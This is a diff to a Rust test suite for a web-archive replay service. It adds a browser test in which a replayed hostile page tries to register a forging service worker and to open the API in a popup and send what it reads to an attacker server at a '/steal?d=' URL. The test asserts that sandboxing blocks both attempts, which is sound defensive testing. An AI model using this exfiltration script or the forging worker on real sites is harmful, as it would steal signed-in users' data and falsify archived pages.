@@ -175,21 +175,23 @@ async fn in_chromium_replay_shows_the_archived_images_and_the_claim_page_highlig
     let images = replay["images"].as_array().unwrap();
     assert!(!images.is_empty());
     for img in images {
+        // Loaded with the replay grant in the path, never the cookie.
         let src = img["src"].as_str().unwrap();
-        assert!(src.starts_with(&format!("{base}replay/{ts}if_/")), "{src}");
+        assert!(src.starts_with(&format!("{base}g/")), "{src}");
+        assert!(src.contains(&format!("/replay/{ts}if_/")), "{src}");
         // 0 when it did not decode (srcset scaling makes it not exactly 64+).
         assert!(
             img["naturalWidth"].as_u64().unwrap() > 0,
             "{img} did not decode"
         );
     }
-    // An archived script cannot read the API with the investigator's
-    // sign-in cookie.
+    // An archived script cannot read the API: its page is sandboxed (an
+    // opaque origin), so the API is another origin it may not read.
     let prying = by_path(&format!(
         "/replay/{}/{prying_url}",
         custody::model::timestamp14(&prying.started_at)
     ));
-    assert_eq!(prying["title"], "api:403", "{prying}");
+    assert_eq!(prying["title"], "api:blocked", "{prying}");
     assert_eq!(
         hits.load(Ordering::SeqCst),
         live_hits,
@@ -217,4 +219,143 @@ fn browse_signed_in(server: SocketAddr, token: &str, paths: &[String]) -> Vec<Va
         .lines()
         .map(|l| serde_json::from_str(l).unwrap())
         .collect()
+}
+
+/// What the attacker's server received: every request's path and query.
+async fn serve_attacker() -> (SocketAddr, Arc<std::sync::Mutex<Vec<String>>>) {
+    let seen = Arc::new(std::sync::Mutex::new(Vec::new()));
+    let log = seen.clone();
+    let app = Router::new().fallback(move |uri: axum::http::Uri| {
+        let log = log.clone();
+        async move {
+            log.lock().unwrap().push(uri.to_string());
+            "<html><title>attacker</title></html>"
+        }
+    });
+    (site::serve_app(app).await, seen)
+}
+
+/// The attacks of issue 13, from a replayed hostile page in Chromium: it
+/// registers a service worker over the site's `id_` replays (which would
+/// then forge another capture), and, on one click, opens the API in a
+/// popup, reads it, and sends it to another server. Both fail: the page is
+/// sandboxed, service worker scripts are refused, and nothing of the API
+/// reaches the attacker.
+#[tokio::test(flavor = "multi_thread")]
+async fn in_chromium_a_hostile_replayed_page_registers_no_worker_and_reads_nothing() {
+    let (attacker, stolen) = serve_attacker().await;
+    let hostile = format!(
+        "<!DOCTYPE html><html><head><title>hostile</title></head><body>\
+         <p>Breaking: statement</p><button id=\"custody-test-click\">read more</button>\
+         <script>\
+         try {{\
+           navigator.serviceWorker.register('/replay/id_/' + location.pathname.split('/replay/')[1].split('/').slice(1, 4).join('/') + '/sw.js')\
+             .then(() => {{ document.title = 'sw:registered'; }}, e => {{ document.title = 'sw:' + e.name; }});\
+         }} catch (e) {{ document.title = 'sw:' + e.name; }}\
+         document.getElementById('custody-test-click').onclick = () => {{\
+           let w = null;\
+           try {{ w = window.open('/api/v1/captures'); }} catch (e) {{}}\
+           setTimeout(() => {{\
+             let t = 'none';\
+             try {{ t = w.document.body.innerText; }} catch (e) {{ t = 'unreadable:' + e.name; }}\
+             location = 'http://{attacker}/steal?d=' + encodeURIComponent(t);\
+           }}, 1500);\
+         }};\
+         </script></body></html>"
+    );
+    let worker = "self.addEventListener('fetch', e => e.respondWith(new Response('<h1>forged by a worker</h1>', {headers: {'content-type': 'text/html'}})));";
+    let app = Router::new()
+        .route(
+            "/hostile/",
+            get(move || async move {
+                (
+                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
+                    hostile,
+                )
+            }),
+        )
+        .route(
+            "/sw.js",
+            get(move || async move { ([(header::CONTENT_TYPE, "text/javascript")], worker) }),
+        )
+        .route(
+            "/other/",
+            get(|| async {
+                (
+                    [(header::CONTENT_TYPE, "text/html; charset=UTF-8")],
+                    "<html><body><p>the genuine other page</p></body></html>",
+                )
+            }),
+        );
+    let live = site::serve_app(app).await;
+    let work = Workdir::new("");
+    let mut captured = Vec::new();
+    for path in ["/hostile/", "/sw.js", "/other/"] {
+        let (c, out) = work.capture(&format!("http://{live}{path}"));
+        assert_eq!(
+            c.status,
+            custody::model::CaptureStatus::Ok,
+            "{}",
+            stderr_text(&out)
+        );
+        captured.push(c);
+    }
+    let server = serve(&work, &[]);
+    let reader = token(&work, "reader");
+    let ts = custody::model::timestamp14(&captured[0].started_at);
+    let pages = [
+        format!("/replay/{ts}/http://{live}/hostile/"),
+        format!("/replay/id_/http://{live}/other/"),
+        "/ui/fixity".to_string(),
+    ];
+    let reports = browse_signed_in(server.addr, &reader, &pages);
+
+    // The worker was never registered: the page may not, and its script
+    // is refused to a worker's fetch.
+    let replayed = &reports[0];
+    assert!(
+        replayed["location"]
+            .as_str()
+            .unwrap()
+            .starts_with(&format!("http://{attacker}/steal")),
+        "the click ran: {replayed}"
+    );
+    let other = &reports[1];
+    assert!(
+        other["text"]
+            .as_str()
+            .unwrap()
+            .contains("the genuine other page"),
+        "another capture replays as archived: {other}"
+    );
+    let ui = &reports[2];
+    assert_eq!(ui["service_workers"], serde_json::json!([]), "{ui}");
+    let refused = crate::web::request(
+        server.addr,
+        "GET",
+        &format!("/replay/id_/http://{live}/sw.js"),
+        &[
+            ("Service-Worker", "script"),
+            ("Authorization", &format!("Bearer {reader}")),
+        ],
+        None,
+    );
+    assert_eq!(refused.status, 403, "{}", refused.text());
+
+    // The popup never opened, so nothing of the API left.
+    let stolen: Vec<String> = stolen
+        .lock()
+        .unwrap()
+        .iter()
+        .filter(|r| r.starts_with("/steal"))
+        .cloned()
+        .collect();
+    assert_eq!(stolen.len(), 1, "{stolen:?}");
+    assert!(
+        stolen[0].contains("unreadable") || stolen[0].ends_with("d=none"),
+        "the attacker received: {stolen:?}"
+    );
+    for c in &captured {
+        assert!(!stolen[0].contains(c.id.as_str()), "{stolen:?}");
+    }
 }
